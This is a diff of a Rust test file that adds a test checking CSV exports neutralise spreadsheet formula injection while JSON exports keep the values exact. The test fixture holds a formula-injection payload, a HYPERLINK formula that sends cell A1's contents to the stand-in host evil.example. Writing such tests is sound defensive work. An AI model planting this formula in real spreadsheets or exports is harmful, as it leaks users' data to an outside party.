@@ -36,6 +36,7 @@ backend_tests!(
     tenant_identities_keep_the_newest,
     usage_aggregates_and_evidence,
     totals_saturate_and_exports_never_print_null_or_inf,
+    csv_exports_neutralise_formula_cells_json_keeps_them,
     statements_status_history_and_removal,
     poll_history_is_bounded_per_host,
 );
@@ -808,4 +809,38 @@ fn assert_finite_csv_numbers(csv: &str) {
             assert!(value.parse::<f64>().is_ok_and(f64::is_finite), "{column} = {value:?} in {line}");
         }
     }
+}
+
+/// A tenant id and a legal name that a spreadsheet would evaluate (they come from
+/// attestations and host statements): text in the CSV export, exact in JSON.
+async fn csv_exports_neutralise_formula_cells_json_keeps_them(db: TestDb) {
+    let store = db.storage();
+    off_runtime(|| {
+        let tenant = "@SUM(1+1)";
+        let legal = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Acme\")";
+        let w = tenant_window(tenant, 1_800_000_000, 60, 1e17, 8e15, 8);
+        store
+            .insert_batch("h", 1, &valid(vec![UsageRecord { seq: 1, last_seq: None, window: w }]), 0)
+            .unwrap();
+        store
+            .upsert_tenant_identities(&[TenantIdentity {
+                legal_name: legal.into(),
+                ..identity(tenant, "", &[], 1)
+            }])
+            .unwrap();
+        let rows = kycd_collector::export::rows(store.as_ref(), 0).unwrap();
+        assert_eq!((rows[0].tenant.as_str(), rows[0].legal_name.as_str()), (tenant, legal));
+        let csv = kycd_collector::export::render(&rows, kycd_collector::export::Format::Csv).unwrap();
+        let row = csv.split("\r\n").nth(1).unwrap();
+        assert!(
+            row.starts_with(r#"'@SUM(1+1),"'=HYPERLINK(""https://evil.example/?""&A1,""Acme"")",SG,"#),
+            "{row}"
+        );
+        let json = kycd_collector::export::render(&rows, kycd_collector::export::Format::Json).unwrap();
+        let parsed: serde_json::Value = serde_json::from_str(&json).unwrap();
+        assert_eq!(
+            (parsed[0]["tenant"].as_str(), parsed[0]["legal_name"].as_str()),
+            (Some(tenant), Some(legal))
+        );
+    });
 }
